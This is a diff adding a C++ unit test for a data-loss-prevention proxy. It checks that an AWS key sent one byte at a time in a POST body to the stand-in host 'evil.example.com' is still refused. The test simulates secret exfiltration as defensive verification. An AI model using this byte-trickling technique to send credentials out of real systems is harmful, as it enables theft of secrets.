@@ -181,6 +181,25 @@ TEST_F(dlp_test, StreamedPiecesAreReadBeforeTheyGoOn) {
   }
 }
 
+TEST_F(dlp_test, ATrickledBodyIsStillReadBeforeEachPieceGoesOn) {
+  // A byte a piece spends the stream's scanning budget (carry.hpp); a key sent so after that
+  // is still refused on the byte that completes it, whatever comes before.
+  load(kPolicy);
+  auto& ex = request(http::verb::post, "evil.example.com", "/");
+  ex.has_body = true;
+  chain c(pipeline_->factories(), ex);
+  ASSERT_TRUE(c.request_head().passes());
+  ASSERT_EQ(c.request_body_use(), body_use::observe);
+  const std::string filler = "{\"note\": \"" + std::string(3000, 'n') + "\", \"k\": \"";
+  for (char ch : filler)
+    ASSERT_TRUE(c.request_body(std::string_view(&ch, 1), false).passes());
+  const std::string key = kAws;
+  for (std::size_t i = 0; i + 1 < key.size(); ++i)
+    ASSERT_TRUE(c.request_body(key.substr(i, 1), false).passes()) << i;
+  EXPECT_TRUE(c.request_body(key.substr(key.size() - 1), false).refused());
+  EXPECT_EQ(ex.record.reason, core::errc::dlp_blocked);
+}
+
 TEST_F(dlp_test, HeaderNamesAndTheMethodAreRead) {
   load(kPolicy);
   {
